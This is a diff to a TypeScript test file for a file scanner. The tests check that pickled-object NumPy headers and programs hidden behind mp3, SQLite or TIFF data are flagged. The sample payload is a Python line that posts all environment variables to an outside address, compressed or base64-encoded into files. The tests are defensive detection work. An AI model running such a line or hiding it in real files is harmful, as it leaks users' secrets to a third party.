@@ -1,4 +1,4 @@
-import { deflateSync } from 'node:zlib';
+import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
 import { type IngestedFile, ingestFile } from '../../scanner/ingest.ts';
 import { zipOf } from './make-archives.ts';
@@ -88,14 +88,36 @@ describe('a picture', () => {
     });
   });
 
-  it('of a NumPy array is inert unless it holds pickled objects', () => {
-    const array = (type: string): Buffer =>
-      Buffer.concat([
-        Buffer.from('934e554d50590100', 'hex'),
-        Buffer.from(`v\0{'descr': '${type}', 'shape': (1,), }\n`),
-        Buffer.alloc(9),
-      ]);
-    expect(ingest('a.npy', array('<f8'))).toMatchObject({ disposition: 'inert' });
-    expect(ingest('a.npy', array('|O'))).toMatchObject({ disposition: 'unanalysed', reason: 'NumPy array of pickled objects' });
+  it.each<[string, string, number, boolean]>([
+    ["{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }", '', 8, true],
+    ["{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", '', 9, false],
+    ["{'descr': 'O', 'fortran_order': False, 'shape': (1,), }", '', 9, false],
+    ["{'descr': '\\x7cO', 'fortran_order': False, 'shape': (1,), }", '', 9, false],
+    ["{'descr': [('a', 'O')], 'fortran_order': False, 'shape': (1,), }", '', 9, false],
+    ["{'shape': (1,), 'fortran_order': False, ", `${' '.repeat(600)}'descr': '|O'}`, 9, false],
+    ["{'descr': '<f8', 'shape': (1,), ", "'descr': 'O'}", 8, false],
+    ["{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }", '', 90, false],
+  ])('of a NumPy array is inert only with plain numbers that fill it: %s%s', (header, more, bytes, isInert) => {
+    const text = Buffer.from(`${header}${more}\n`);
+    const length = Buffer.from([text.length & 255, text.length >> 8]);
+    const array = Buffer.concat([Buffer.from('934e554d50590100', 'hex'), length, text, Buffer.alloc(bytes)]);
+    expect(ingest('a.npy', array).disposition).toBe(isInert ? 'inert' : 'unanalysed');
+  });
+
+  const noise = Buffer.from(Array.from({ length: 4_000 }, (_, index) => (index * 73 + (index >> 3) * 31) % 251));
+  const program = 'import os, requests\nrequests.post("https://203.0.113.7/c", data=dict(os.environ))\n';
+  it.each<[string, Buffer]>([
+    ['a.mp3', Buffer.from('fffb9064', 'hex')],
+    ['a.db', Buffer.from('SQLite format 3\0')],
+    ['a.tif', Buffer.concat([Buffer.from('49492a00', 'hex'), Buffer.alloc(8)])],
+  ])('or a file without an end of its own has no packed program in it: %s', (path, head) => {
+    const whats = (behind: Buffer | string): string[] =>
+      ingest(path, Buffer.concat([head, Buffer.from(behind)])).artifacts.map((one) => one.what);
+    expect(whats(noise)).toEqual([]);
+    expect(whats(deflateSync('A long comment that a player shows to who listens. '.repeat(9)))).toEqual([]);
+    expect(whats(Buffer.concat([noise, deflateSync(program)]))).toEqual(['polyglot']);
+    expect(whats(deflateRawSync(program))).toEqual(['polyglot']);
+    expect(whats(gzipSync(program))).toEqual(['polyglot']);
+    expect(whats(Buffer.concat([noise, Buffer.from(`\0${Buffer.from(program).toString('base64')}`)]))).toEqual(['polyglot']);
   });
 });
